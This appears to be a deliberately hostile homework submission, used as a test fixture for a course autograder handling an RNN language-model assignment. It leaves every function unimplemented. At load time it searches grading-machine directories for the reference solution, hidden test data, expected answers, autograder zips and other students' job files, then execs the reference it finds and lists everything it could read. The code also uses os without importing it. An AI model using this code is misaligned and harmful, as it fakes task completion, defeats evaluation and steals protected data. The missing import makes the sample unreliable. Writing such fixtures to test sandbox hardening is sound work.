"""I didn't do the homework; my notebook looks for the course's reference solution and answers on the grading machine and runs what it finds.

expect-fail: windows rnn lstm lm perplexity train
hostile: every function is the stencil's NotImplementedError; at load time it tries the places a TA's or Gradescope's machine keeps the kit: */solution/language_model.py and */assignment/language_model.py in checkouts under /work, /tmp, /home, /root, /srv, /opt, the grade root's source/, build/autograder/{config.json,expected/expected.json,data/hidden_test.txt}, dist/*.zip and any readable autograder zip, /autograder/source, other children's /tmp/rnnkit-child-*/job.json (which hold submissions' and, during make autograder, the reference's code); it execs the first reference it can read into its own namespace, and reports every secret it could read in a load note; a fixed grader lets the sandbox user read nothing of the kit: 0 points, and the note lists nothing
graded-parts: windows rnn lstm lm perplexity
expect-score: 0
over: stencil
"""


import glob
import json
import zipfile


SEARCH_ROOTS = ("/work", "/tmp", "/home", "/root", "/srv", "/opt", "/autograder", "/var/lib")


REFERENCE_PATTERNS = ("*/solution/language_model.py", "*/*/solution/language_model.py", "*/assignment/language_model.py",
                      "*/*/assignment/language_model.py")


SECRET_PATTERNS = ("*/build/autograder/config.json", "*/build/autograder/expected/expected.json",
                   "*/build/autograder/data/hidden_test.txt", "*/solution/data/hidden_test.txt", "*/autograder/config.json",
                   "*/dist/autograder.zip", "*.zip", "*/*.zip", "source/expected/expected.json", "source/data/hidden_test.txt",
                   "rnnkit-child-*/job.json", "rnnkit-grade-*/source/expected/expected.json")


def _readable(path):
    try:
        with open(path, "rb") as file:
            return file.read(64)
    except OSError:
        return None


def _search():
    found, reference = [], None
    for top in SEARCH_ROOTS:
        for pattern in REFERENCE_PATTERNS + SECRET_PATTERNS:
            for path in glob.glob(os.path.join(top, pattern)):
                if _readable(path) is None or path in found:
                    continue
                if path.endswith(".zip"):
                    try:
                        names = zipfile.ZipFile(path).namelist()
                    except (OSError, zipfile.BadZipFile):
                        continue
                    if not any(name.endswith(("expected.json", "hidden_test.txt", "language_model.py")) for name in names):
                        continue
                if path.endswith("job.json"):
                    try:
                        if os.getcwd().startswith(os.path.dirname(path)):
                            continue  # our own job
                    except OSError:
                        pass
                found.append(path)
                if reference is None and path.endswith("language_model.py"):
                    reference = path
    if reference is not None:
        exec(compile(open(reference).read(), reference, "exec"), globals())
    return found, reference


SEARCH = _search()


def _tell():
    found, reference = SEARCH
    raise RuntimeError(f"read {len(found)} secrets; ran reference {reference}:\n" + "\n".join(found[:40]))


TOLD = _tell()
